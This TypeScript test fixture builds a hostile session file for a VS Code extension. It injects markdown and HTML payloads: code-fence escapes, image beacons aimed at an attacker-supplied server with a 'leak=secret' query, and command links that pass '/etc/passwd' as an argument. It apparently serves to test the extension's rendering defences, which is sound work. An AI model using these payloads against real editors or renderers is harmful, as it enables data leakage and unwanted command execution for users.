/**
 * A hostile session built on the real pi-condense `basic` session: text that tries to escape the
 * markdown it is shown in. `t3`'s raw output closes the hover's code block with an indented fence
 * and adds its own command link, web link and images; the chain `b1` lists a "ref" that is a
 * markdown link to a command; the summary of `t3`/`t4` and the chain's body carry images (markdown,
 * reference-style, escaped and raw HTML) pointing at the attacker's server.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { piCondenseSessionsDir } from './paths';

type Line = Record<string, unknown>;

/** What an attacker wants the hover link to run: a command of ours, with arguments of theirs. */
export function attackerCommand(command: string): string {
	return `command:${command}?${encodeURIComponent(JSON.stringify([{ sessionPath: '/etc/passwd', ref: 't1' }]))}`;
}

/** Images and HTML that would make VS Code fetch from `attacker` if rendered. */
export function imagePayloads(attacker: string, where: string): string {
	return [
		`![pixel](${attacker}/${where}-image.png?leak=secret)`,
		`<img src="${attacker}/${where}-html.png">`,
		`![reference][${where}]`,
		'',
		`[${where}]: ${attacker}/${where}-reference.png`,
		'',
		`\\\\![escaped backslash](${attacker}/${where}-escaped.png)`,
		`<p><img src=${attacker}/${where}-nested.png></p>`,
	].join('\n');
}

/** Text that closes a code block opened by `appendCodeblock` (a fence indented by three spaces). */
export function fenceEscape(attacker: string): string {
	return [
		'   ```',
		`[run this](${attackerCommand('piCondense.revealRef')}) [or this](${attackerCommand('piCondense.recoverOutput')})`,
		`[a web page](${attacker}/hover-link)`,
		imagePayloads(attacker, 'hover'),
		'   ````',
		'~~~',
		'',
	].join('\n');
}

export const HOSTILE_CHAIN_REF = `t4](${attackerCommand('piCondense.revealRef')}) [x`;

/** Writes the hostile session as `file`, with header id `id`. */
export function writeHostileSession(file: string, id: string, attacker: string): void {
	const lines = readFileSync(join(piCondenseSessionsDir, 'basic', 'session.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as Line);
	for (const line of lines) {
		const data = line.data as { toolCalls?: { toolCallId: string; resultText: string }[]; blockId?: string; toolRefs?: string[]; rangeSummaryText?: string } | undefined;
		if (line.type === 'session') {
			line.id = id;
		}
		for (const record of data?.toolCalls ?? []) {
			if (record.toolCallId === 'call_p0_t1_0') {
				record.resultText = fenceEscape(attacker) + record.resultText;
			}
		}
		if (data?.blockId === 'b1') {
			data.toolRefs = ['t1', 't2', 't3', HOSTILE_CHAIN_REF];
			data.rangeSummaryText = `${imagePayloads(attacker, 'chain')}\n\n${data.rangeSummaryText ?? ''}`;
		}
		if (line.customType === 'context-prune-summary' && typeof line.content === 'string' && line.content.includes('`t3`')) {
			line.content = `${imagePayloads(attacker, 'summary')}\n\n${line.content}`;
		}
	}
	writeFileSync(file, `${lines.map((line) => JSON.stringify(line)).join('\n')}\n`);
}
